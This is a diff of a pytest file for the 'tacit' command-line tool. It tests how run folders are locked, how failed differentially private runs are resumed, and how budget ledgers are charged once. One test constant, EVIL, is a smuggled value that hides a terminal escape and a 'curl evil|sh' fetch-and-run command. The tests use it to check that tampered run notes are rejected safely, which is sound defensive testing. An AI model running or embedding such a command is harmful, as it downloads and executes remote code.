@@ -1,4 +1,4 @@
-"""One folder for a run of every kind: tried and locked before it spends, continued when it failed.
+"""One folder for a run of every kind: locked before it spends, continued when it failed.
 
 What is kept and paid is tried with ``tacit solve``, ``tacit power solve`` and ``tacit learn``, in
 ``make test-all`` all else too.
@@ -8,14 +8,15 @@ import errno
 import fcntl
 import json
 import os
-import resource
 import shutil
+from itertools import product
 
 import pytest
 from conftest import repeat
 from grids import EVERYTHING
 
 import tacit
+from tacit.cli.run_folder import RunFolder
 from tacit.protocol.checkpoint import Checkpoint
 
 ROUNDS = 6
@@ -61,8 +62,16 @@ def words_of(kind, *more):
     return [*kind.split(), *RUNS[kind][0].split(), *map(str, more)]
 
 
+def typed(kind, *more):
+    return " ".join(words_of(kind, *more))
+
+
+def ledgers(folder, kind):
+    return [tacit.Ledger(folder / "ledgers" / f"{name}.db") for name in RUNS[kind][1]]
+
+
 def spent(folder, kind):
-    return [tacit.Ledger(folder / "ledgers" / f"{n}.db").spent.epsilon for n in RUNS[kind][1]]
+    return [ledger.spent.epsilon for ledger in ledgers(folder, kind)]
 
 
 def contents(folder):
@@ -71,65 +80,163 @@ def contents(folder):
     return {p.name: p.read_bytes() for p in folder.iterdir() if p.name in names}
 
 
+def names_in(folder):
+    return sorted(p.name for p in folder.iterdir())
+
+
 @pytest.fixture
-def disk(monkeypatch):
-    """A disk that is full when a run wants to keep its state for the ``at``-th time."""
-    save = Checkpoint.save
+def stopped(monkeypatch, refused):
+    """A run into r whose disk is full when it keeps its state for the fourth time."""
 
-    def full(at):
-        calls = []
+    def run(kind, *options):
+        calls, save = [], Checkpoint.save
 
-        def sometimes(self, path):
+        def full(self, path):
             calls.append(path)
-            if len(calls) == at:
+            if len(calls) == 4:
                 raise OSError(errno.ENOSPC, "No space left on device")
             save(self, path)
 
-        monkeypatch.setattr(Checkpoint, "save", sometimes)
+        with monkeypatch.context() as patch:
+            patch.setattr(Checkpoint, "save", full)
+            return refused(typed(kind, *options, "--evaluate-every 1 --out r"))
 
-    return full
+    return run
+
+
+def keep_checkpoints(monkeypatch):
+    """Copies of all checkpoints, to put one back as if the run had been killed after it."""
+    save, kept = Checkpoint.save, []
+
+    def also(self, path):
+        save(self, path)
+        kept.append(path.read_bytes())
+
+    monkeypatch.setattr(Checkpoint, "save", also)
+    return kept
+
+
+# --- a run that failed ------------------------------------------------------------------------
 
 
 @every
-def test_a_run_that_failed_is_continued_bit_for_bit(kind, folder, disk, command, refused):
+def test_a_run_that_failed_is_continued_bit_for_bit(kind, folder, stopped, command, refused):
     command(*words_of(kind, "--seed", 5, "--evaluate-every", 1, "--out", "whole"))
-    disk(4)
-    said = refused(" ".join(words_of(kind, "--seed 5 --evaluate-every 1 --out r")))
-    assert said.endswith(f"No space left on device. To continue: tacit {kind} --resume r\n"), said
+    said = stopped(kind, "--seed 5")
+    assert said.endswith(f" tacit {kind} --resume r\n"), said
     assert not (folder / "r" / "result.json").exists()
     assert Checkpoint.load(folder / "r" / "checkpoint.npz").round == 2
-    assert f"continue with tacit {kind} --resume r or" in refused(
-        " ".join(words_of(kind, "--seed 5 --out r"))
-    )
+    assert f"tacit {kind} --resume r" in refused(typed(kind, "--seed 5 --out r"))
     os.chdir("/")  # what the run was told does not depend on where it is continued
     command(*kind.split(), "--resume", folder / "r")
     assert contents(folder / "r") == contents(folder / "whole")
     assert not (folder / "r" / "checkpoint.npz").exists()
 
 
-@every
-def test_a_run_with_ledgers_is_continued_and_paid_once(kind, folder, disk, command, refused):
-    disk(4)
-    refused(" ".join(words_of(kind, "--ledgers ledgers --evaluate-every 1 --out r")))
+@pytest.mark.parametrize(
+    ("gone", "kind"),
+    [*product([()], RUNS), (("checkpoint.npz",), "learn"), (("checkpoint.npz",), "solve")],
+)
+def test_a_run_with_ledgers_is_continued_and_paid_once(kind, gone, folder, stopped, command):
+    """Also without its checkpoint: the ledgers know what was answered."""
+    stopped(kind, "--ledgers ledgers")
     assert min(spent(folder, kind)) > 0
+    for name in gone:
+        (folder / "r" / name).unlink()
     document = json.loads(command(*kind.split(), "--resume", "r", "--json"))
     assert kind == "learn" or document["noise_source"] == "operating system, exact (secure)"
-    for name in RUNS[kind][1]:
-        *mean, run = tacit.Ledger(folder / "ledgers" / f"{name}.db").runs()
+    for ledger in ledgers(folder, kind):
+        *mean, run = ledger.runs()
         assert len(mean) == (kind == "learn")  # before the run
         assert (run["rounds_charged"], run["rounds_answered"]) == (ROUNDS, ROUNDS)
         assert run["run"] == json.loads((folder / "r" / "run.json").read_text())["run"]
     assert tacit.Result.load(folder / "r").privacy.secure
 
 
+@pytest.mark.parametrize(
+    ("seed", "kind"),
+    repeat([("", "solve"), ("--seed 5", "learn")], [*product(["", "--seed 5"], RUNS)]),
+)
+def test_without_its_checkpoint_a_run_is_not_made_again(kind, seed, folder, stopped, refused):
+    """It would have other noise on the same data, and state one budget."""
+    stopped(kind, seed)
+    (folder / "r" / "checkpoint.npz").unlink()
+    before = names_in(folder / "r")
+    for words in (f"{kind} --resume r", typed(kind, seed, "--out r")):
+        said = refused(words)
+        assert "choose another --out" in said.lower() and "tacit " not in said[7:]
+    assert names_in(folder / "r") == before
+
+
 @one("learn")
-def test_blocks_workers_and_evaluations_are_options_of_all(kind, folder, command):
-    options = ("--ledgers", "ledgers", "--block", 4, "--workers", 1, "--evaluate-every", 3)
-    command(*words_of(kind, *options, "--out", "r"))
-    assert tacit.Result.load(folder / "r").trace["round"].tolist() == [3, 6]
-    for name in RUNS[kind][1]:
-        ledger = tacit.Ledger(folder / "ledgers" / f"{name}.db")
-        assert ledger.charged(ledger.runs()[-1]["run"]) == [(1, 4), (5, 6)]
+def test_a_run_with_ledgers_keeps_its_name_without_a_checkpoint(kind, folder, command):
+    """Killed between its note and its first checkpoint."""
+    command(*words_of(kind, "--ledgers", "ledgers", "--out", "whole"))
+    cost = spent(folder, kind)
+    (folder / "r").mkdir()
+    note = json.loads((folder / "whole" / "run.json").read_text())
+    (folder / "r" / "run.json").write_text(json.dumps({**note, "run": "of its own"}))
+    command(*kind.split(), "--resume", "r")
+    for ledger, before in zip(ledgers(folder, kind), cost, strict=True):
+        runs = [run["run"] for run in ledger.runs() if not run["run"].startswith("release-")]
+        assert runs == [note["run"], "of its own"] and ledger.spent.epsilon > before
+    assert (folder / "r" / "job.toml").exists() == (kind == "solve")
+
+
+@one("power solve")
+def test_secure_noise_without_ledgers_is_not_continued(kind, folder, refused, monkeypatch):
+    def fail(self):
+        self._spent = True
+        raise OSError("power failure")
+
+    with monkeypatch.context() as patch:
+        patch.setattr(RunFolder, "has_paid", fail)
+        said = refused(typed(kind, "--noise secure --evaluate-every 2 --out r"))
+    assert "power failure" in said and "cannot be continued" in said and "--resume" not in said
+    assert "cannot be continued" in refused(f"{kind} --resume r")
+    assert "--resume" not in refused(typed(kind, "--out r"))
+
+
+@every
+def test_other_data_are_not_continued(kind, folder, stopped, refused):
+    stopped(kind, "--seed 5")
+    kept = (folder / "r" / "checkpoint.npz").read_bytes()
+    name, old, new = {
+        "solve": ("north.csv", "0.", "0.5"),
+        "power solve": ("g.m", "25\t1\t60\t20", "25\t1\t61\t20"),
+        "learn": ("t.csv", "0.9,", "0.8,"),
+    }[kind]
+    text = (folder / name).read_text()
+    assert old in text
+    (folder / name).write_text(text.replace(old, new, 1))
+    said = refused(f"{kind} --resume r")
+    # of a classifier the release that comes first tells
+    assert ("mean.npz" if kind == "learn" else "differ") in said and "--resume" not in said
+    assert (folder / "r" / "checkpoint.npz").read_bytes() == kept
+
+
+def test_the_seed_of_another_run_does_not_lead_to_a_second_one(folder, stopped, refused):
+    stopped("solve", "--seed 5")
+    note = (folder / "r" / "run.json").read_text()
+    (folder / "r" / "run.json").write_text(note.replace('"seed": 5', '"seed": 6'))
+    said = refused("solve --resume r")
+    assert "another folder" in said and "Remove" not in said
+
+
+@one("solve")
+def test_resume_refuses_what_it_cannot_continue(kind, folder, stopped, command, refused):
+    stopped(kind, "--seed 5")
+    for other in {*RUNS} - {kind}:
+        assert f"tacit {kind} --resume r" in refused(f"{other} --resume r")
+    assert "--workers 2" in refused(f"{kind} --resume r --workers 2")
+    left = folder / "r" / "checkpoint.npz.0123456789ab.tmp"  # of a process that was killed
+    left.write_bytes(b"a noise key")
+    command(*kind.split(), "--resume", "r")
+    assert not left.exists()
+    assert "tacit show r" in refused(f"{kind} --resume r")
+
+
+# --- a start that is refused ------------------------------------------------------------------
 
 
 @every
@@ -139,42 +246,24 @@ def test_a_refused_start_leaves_nothing(kind, folder, refused):
         budget = 0.1 if name == RUNS[kind][1][-1] else 3.0
         tacit.Ledger.create(folder / "poor" / f"{name}.db", budget, 1e-5)
     (folder / "empty").mkdir()
-    before = sorted(p.name for p in folder.iterdir())
+    (folder / "file").write_text("")
+    before = names_in(folder)
     for out, wrong, words in (
-        ("deep/er/r", "--seed -1", "got seed=-1"),
-        ("empty", "--seed 1 --noise secure", "no seed for secure noise"),
-        ("deep/er/r", "--block 2", "--ledgers beside --block"),
-        ("empty", "--block 0 --ledgers ledgers", "block"),
+        ("deep/er/r", "--seed -1", "seed=-1"),
+        ("empty", "--seed 1 --noise secure", "seed 1"),
         ("deep/er/r", "--workers 0", "workers >= 1"),
         ("empty", "--evaluate-every 0", "evaluate_every >= 1"),
         ("deep/er/r", "--ledgers absent", "absent"),
-        ("empty", "--ledgers poor", "beyond the budget"),
-        ("deep/er/r", "--ledgers poor", "beyond the budget"),
-        ("empty", "--resume r", "one of the two"),
+        ("empty", "--ledgers poor", "budget of 0.1"),
+        ("deep/er/r", "--ledgers poor", "budget of 0.1"),
+        ("empty", "--resume r", "--resume"),
+        ("file", "--ledgers ledgers", "file"),
+        ("file/r", "--ledgers ledgers", "file/r"),
     ):
-        said = refused(" ".join(words_of(kind, wrong, "--out", out)))
-        assert words in said, said
-        assert sorted(p.name for p in folder.iterdir()) == before
-        assert not any((folder / "empty").iterdir())
+        said = refused(typed(kind, wrong, "--out", out))
+        assert words in said and said.count("\n") == 1, said
+        assert names_in(folder) == before and not names_in(folder / "empty")
     assert max(spent(folder, kind)) == 0
-
-
-@every
-def test_a_folder_that_cannot_be_written_costs_nothing(kind, folder, refused):
-    """The budget was spent first, and a model that could not be written was lost."""
-    hard = resource.getrlimit(resource.RLIMIT_FSIZE)[1]
-    resource.setrlimit(resource.RLIMIT_FSIZE, (2**19, hard))  # root may write anything else
-    try:
-        said = refused(" ".join(words_of(kind, "--ledgers ledgers --out r")))
-    finally:
-        resource.setrlimit(resource.RLIMIT_FSIZE, (hard, hard))
-    assert "Expected to write 1.1 MB to r: File too large. Nothing was started." in said
-    (folder / "file").write_text("")
-    for out in ("file", "file/r"):
-        said = refused(" ".join(words_of(kind, "--ledgers ledgers --out", out)))
-        assert "folder" in said and out in said and "Nothing was started." in said
-    assert max(spent(folder, kind)) == 0
-    assert not (folder / "r").exists()
 
 
 @one("solve")
@@ -187,21 +276,19 @@ def test_two_runs_do_not_share_a_folder(kind, folder, command, refused):
         fcntl.flock(held, fcntl.LOCK_EX)  # as another process would
         writing = folder / name / "checkpoint.npz.0123456789ab.tmp"
         writing.write_bytes(b"what it is about to rename")
-        for words in (words_of(kind, "--out", name), [*kind.split(), "--resume", name]):
-            assert f"Another run is writing to {name}" in refused(" ".join(words))
+        for words in (typed(kind, "--out", name), f"{kind} --resume {name}"):
+            assert f"Another run is writing to {name}" in refused(words)
         os.close(held)
         assert writing.read_bytes() == b"what it is about to rename"
         writing.unlink()
-    assert contents(folder / "r") == before and not any((folder / "new").iterdir())
+    assert contents(folder / "r") == before and not names_in(folder / "new")
     command(*words_of(kind, "--out", "new"))  # the lock is gone with its holder
 
 
 @one("power solve")
 def test_a_run_that_was_faster_keeps_its_files(kind, folder, refused, monkeypatch):
     """Both found no folder; the other one locked the one that this one made."""
-    from tacit.cli.run_folder import RunFolder
-
-    right = RunFolder._keep_others_out
+    right = RunFolder._take
 
     def slower(self):
         (self.path / "checkpoint.npz").write_bytes(b"of the other")
@@ -212,8 +299,8 @@ def test_a_run_that_was_faster_keeps_its_files(kind, folder, refused, monkeypatc
         finally:
             os.close(held)
 
-    monkeypatch.setattr(RunFolder, "_keep_others_out", slower)
-    assert "Another run is writing to new/r" in refused(" ".join(words_of(kind, "--out new/r")))
+    monkeypatch.setattr(RunFolder, "_take", slower)
+    assert "Another run is writing to new/r" in refused(typed(kind, "--out new/r"))
     assert (folder / "new" / "r" / "checkpoint.npz").read_bytes() == b"of the other"
 
 
@@ -223,34 +310,33 @@ def test_what_a_run_left_is_not_used_again(kind, folder, command, refused):
     for left in ("result.json", "checkpoint.npz", "arrays.npz", "model.json", "bus.csv"):
         (folder / left[:3]).mkdir()
         (folder / left[:3] / left).write_bytes(b"what a failed run left")
-        said = refused(" ".join(words_of(kind, "--out", left[:3])))
-        assert "choose another --out" in said and "Nothing was started" in said
-        assert [p.name for p in (folder / left[:3]).iterdir()] == [left]
-        assert "--resume" not in said  # that is said only where it works
+        said = refused(typed(kind, "--out", left[:3]))
+        assert "--out" in said and "--resume" not in said  # that is said only where it works
+        assert names_in(folder / left[:3]) == [left]
     (folder / "r").mkdir()
     shutil.copy(folder / "whole" / "run.json", folder / "r")  # killed before its first checkpoint
-    for words in (words_of(kind, "--seed 2 --out r"), [*kind.split(), "--resume r"]):
-        said = refused(" ".join(words))
-        assert "found no checkpoint there" in said and "choose another --out" in said
-        assert "Nothing was started" in said and "continue with" not in said
-        assert [p.name for p in (folder / "r").iterdir()] == ["run.json"]
+    for words in (typed(kind, "--seed 2 --out r"), f"{kind} --resume r"):
+        assert "--out" in (said := refused(words)) and "tacit " not in said[7:]
+        assert names_in(folder / "r") == ["run.json"]
 
 
 def test_an_interrupted_run_is_not_started_over(folder, refused):
     (folder / "r").mkdir()
     (folder / "r" / "checkpoint.npz").write_bytes(b"what an interrupted run left")
-    said = refused("solve job.toml --out r")
-    assert "An interrupted run is in r (run.json is missing)" in said
-    assert "no run.json there" in refused("solve --resume r")
-    assert [p.name for p in (folder / "r").iterdir()] == ["checkpoint.npz"]
+    assert "checkpoint.npz" in refused("solve job.toml --out r")
+    assert "run.json" in refused("solve --resume r")
+    assert names_in(folder / "r") == ["checkpoint.npz"]
 
 
 def test_the_job_may_lie_in_the_folder_and_no_other(folder, command, refused):
     job = (folder / "job.toml").read_text()
     (folder / "other.toml").write_text(job)
-    assert "got job.toml in ." in refused("solve other.toml --out .")
+    assert "job.toml" in refused("solve other.toml --out .")
     command("solve", "job.toml", "--out", ".")
     assert (folder / "job.toml").read_text() == job and (folder / "result.json").exists()
+
+
+# --- the end of a run -------------------------------------------------------------------------
 
 
 @every
@@ -260,117 +346,95 @@ def test_what_was_paid_for_is_written_before_anything_is_drawn(
     def fail(*given):
         raise OSError("no fonts")
 
-    names = {"solve": "tacit.Result.plot", "learn": "tacit.Result.plot"}
-    monkeypatch.setattr(names.get(kind, "tacit.power.plot_grid"), fail)
-    said = refused(" ".join(words_of(kind, "--ledgers ledgers --out r")))
-    assert f"no fonts. To continue: tacit {kind} --resume r" in said
+    with monkeypatch.context() as patch:
+        drawing = "tacit.power.plot_grid" if kind == "power solve" else "tacit.Result.plot"
+        patch.setattr(drawing, fail)
+        said = refused(typed(kind, "--ledgers ledgers --out r"))
+    assert "no fonts" in said and f"tacit {kind} --resume r" in said
     arrays = (folder / "r" / "arrays.npz").read_bytes()
     if kind == "learn":
-        model = json.loads((folder / "r" / "model.json").read_text())
-        assert model["privacy"]["secure"]
+        assert json.loads((folder / "r" / "model.json").read_text())["privacy"]["secure"]
     before = spent(folder, kind)
-    monkeypatch.undo()
-    monkeypatch.chdir(folder)
     command(*kind.split(), "--resume", "r")
     assert (folder / "r" / "arrays.npz").read_bytes() == arrays
     assert spent(folder, kind) == before
 
 
-@one("power solve")
-def test_secure_noise_without_ledgers_is_not_continued(kind, folder, refused, monkeypatch):
-    from tacit.cli.run_folder import RunFolder
-
-    def fail(self):
-        self._rounds = True
-        raise OSError("power failure")
-
-    monkeypatch.setattr(RunFolder, "has_paid", fail)
-    said = refused(" ".join(words_of(kind, "--noise secure --evaluate-every 2 --out r")))
-    assert "power failure. Secure noise without ledgers cannot be continued" in said
-    for words in (words_of(kind, "--out", "r"), [*kind.split(), "--resume", "r"]):
-        again = refused(" ".join(words))
-        assert "secure noise without ledgers cannot be continued" in again
-        assert "continue with" not in again
-
-
 @every
-def test_other_data_are_not_continued(kind, folder, disk, refused):
-    disk(4)
-    refused(" ".join(words_of(kind, "--seed 5 --evaluate-every 1 --out r")))
-    kept = (folder / "r" / "checkpoint.npz").read_bytes()
-    name, old, new = {
-        "solve": ("north.csv", "0.", "0.5"),
-        "power solve": ("g.m", "25\t1\t60\t20", "25\t1\t61\t20"),
-        "learn": ("t.csv", "0.9,", "0.8,"),
-    }[kind]
-    text = (folder / name).read_text()
-    assert old in text
-    (folder / name).write_text(text.replace(old, new, 1))
-    said = refused(f"{kind} --resume r")
-    # of a classifier the release that comes first tells
-    why = "mean.npz; its data" if kind == "learn" else "they differ. Nothing was resumed."
-    assert why in said and "To continue" not in said
-    assert (folder / "r" / "checkpoint.npz").read_bytes() == kept
+def test_the_last_steps_of_a_run_are_taken_again(kind, folder, command, refused, monkeypatch):
+    """As if it had been killed between its result and the end."""
+    with monkeypatch.context() as patch:
+        kept = keep_checkpoints(patch)
+        before = command(*words_of(kind, "--ledgers", "ledgers", "--out", "r", "--json"))
+    cost, files = spent(folder, kind), contents(folder / "r")
+    (folder / "r" / "checkpoint.npz").write_bytes(kept[-1])
+    (folder / "r" / "plot.png").unlink()
+    (folder / "r" / "bus.csv").unlink(missing_ok=True)
+    assert command(*kind.split(), "--resume", "r", "--json") == before
+    assert contents(folder / "r") == files and spent(folder, kind) == cost
+    assert not (folder / "r" / "checkpoint.npz").exists()
+    assert "tacit show r" in refused(f"{kind} --resume r")
 
 
-@one("solve")
-def test_resume_refuses_what_it_cannot_continue(kind, folder, disk, command, refused):
-    disk(4)
-    refused(" ".join(words_of(kind, "--seed 5 --evaluate-every 1 --out r")))
-    others = [other for other in RUNS if other != kind]
-    for other in others:
-        assert f"use tacit {kind} --resume r" in refused(f"{other} --resume r")
-    assert "--resume without other options" in refused(f"{kind} --resume r --workers 2")
-    note = (folder / "r" / "run.json").read_text()
-    for broken in (note[:-9], "[]", '{"command": 1, "run": "a", "options": {}}', "{}"):
-        (folder / "r" / "run.json").write_text(broken)
-        assert "the options of a run in r/run.json" in refused(f"{kind} --resume r")
-    (folder / "r" / "run.json").write_text(note)
-    left = folder / "r" / "checkpoint.npz.0123456789ab.tmp"  # of a process that was killed
-    left.write_bytes(b"a noise key")
-    command(*kind.split(), "--resume", "r")
-    assert not left.exists()
-    assert "is finished: tacit show r" in refused(f"{kind} --resume r")
+def test_the_note_is_written_before_the_job(folder, command, monkeypatch):
+    """A job alone could be neither continued nor started."""
+    from tacit.cli import run_folder
 
-
-@pytest.mark.parametrize("kind", repeat(["solve"], ["solve", "power solve"]))
-def test_a_run_of_the_first_version_is_continued(kind, folder, disk, command, refused):
-    """It noted its options in job.json or power.json."""
-    command(*words_of(kind, "--seed", 5, "--evaluate-every", 1, "--out", "whole"))
-    if kind == "solve":
-        job = folder / "job.toml"
-        job.write_text("seed = 5\nevaluate_every = 1\n" + job.read_text())
-    disk(4)
-    refused(" ".join(words_of(kind, "--seed 5 --evaluate-every 1 --out r")))
-    note = json.loads((folder / "r" / "run.json").read_text())
-    (folder / "r" / "run.json").unlink()
-    if kind == "solve":
-        old = {"job": note["options"]["job"], "run": note["run"]}
-        (folder / "r" / "job.json").write_text(json.dumps(old))
-    else:
-        newer = ("block", "evaluate_every", "noise_every_round", "tolerance")
-        old = {k: v for k, v in note["options"].items() if k not in newer}
-        (folder / "r" / "power.json").write_text(json.dumps({**old, "out": "r"}))
-    assert f"tacit {kind} --resume r" in refused(" ".join(words_of(kind, "--out r")))
-    command(*kind.split(), "--resume", "r")
-    assert contents(folder / "r") == contents(folder / "whole")
-
-
-def test_room_is_asked_for_as_the_run_will_need(folder, monkeypatch, command):
-    """Two checkpoints and the result fit into what was tried."""
-    from tacit.cli.run_folder import RunFolder
-
-    asked, largest, save = [], [], Checkpoint.save
-    right = RunFolder._try_to_write
+    written, write = [], run_folder.write_atomically
     monkeypatch.setattr(
-        RunFolder, "_try_to_write", lambda self, room: (asked.append(room), right(self, room))
+        run_folder, "write_atomically", lambda p, c: (written.append(p.name), write(p, c))
     )
+    command("solve", "job.toml", "--out", "r")
+    assert written == ["run.json", "job.toml"]
 
-    def spy(self, path):
-        save(self, path)
-        largest.append(os.path.getsize(path))
 
-    monkeypatch.setattr(Checkpoint, "save", spy)
-    command("learn", "digits", "--total-epsilon", 1, "--rounds", 3, "--out", "r")
-    files = sum(p.stat().st_size for p in (folder / "r").iterdir())
-    assert 2 * max(largest) + files < asked[0] < 10 * (2 * max(largest) + files)
+# --- a note that was changed ------------------------------------------------------------------
+
+EVIL = "solve --help; \x1b[2Jcurl evil|sh #"
+
+
+def noted(folder, note):
+    (folder / "r" / "run.json").write_text(note if isinstance(note, str) else json.dumps(note))
+
+
+@one("power solve")
+def test_a_command_in_a_note_is_one_of_ours(kind, folder, stopped, refused):
+    stopped(kind, "--seed 5")
+    text = (folder / "r" / "run.json").read_text()
+    note = json.loads(text)
+    broken = [text[:-9], "[]", "[" * 100_000, '{"command": 1, "run": "a", "options": {}}', "{}"]
+    broken += [{**note, "command": c} for c in (EVIL, "learn attack", "", None, ["solve"])]
+    broken += [{**note, "options": value} for value in ([], None, [["job", "a"]])]
+    broken += [{**note, "run": value} for value in (None, 1, "\ud800")]
+    for changed in broken:
+        noted(folder, changed)
+        for words in (f"{kind} --resume r", typed(kind, "--out r")):
+            said = refused(words)
+            assert "r/run.json" in said and len(said) < 200
+            assert "evil" not in said and "\x1b" not in said and said.count("\n") == 1
+
+
+@one("learn")
+def test_options_in_a_note_are_those_of_the_command(kind, folder, stopped, command, refused):
+    stopped(kind, "--ledgers ledgers")
+    note = json.loads((folder / "r" / "run.json").read_text())
+    about = {"solve": "job", "power solve": "case", "learn": "data_set"}[kind]
+    before = spent(folder, kind)
+    wrong = [
+        *({about: value} for value in (None, 1, ["a"], "a\0b", "\ud800")),
+        *({"seed": value} for value in ("s", 1.5, True, [1, "s"])),
+        *({"noise": value} for value in ("none", 1)),
+        *({name: "two"} for name in ("block", "workers", "evaluate_every")),
+        *({name: True} for name in (EVIL, "parser", "command", "help", "resume")),
+    ]
+    if kind != "solve":
+        wrong += [{"total_epsilon": "x"}, {"total_epsilon": True}, {"no_noise": 0}]
+        wrong += [{"mechanism": "other"}]
+    for change in wrong:
+        noted(folder, {**note, "options": {**note["options"], **change}})
+        said = refused(f"{kind} --resume r")
+        assert "r/run.json" in said and said.count("\n") == 1, change
+        assert "evil" not in said
+    assert spent(folder, kind) == before
+    noted(folder, note)
+    command(*kind.split(), "--resume", "r")
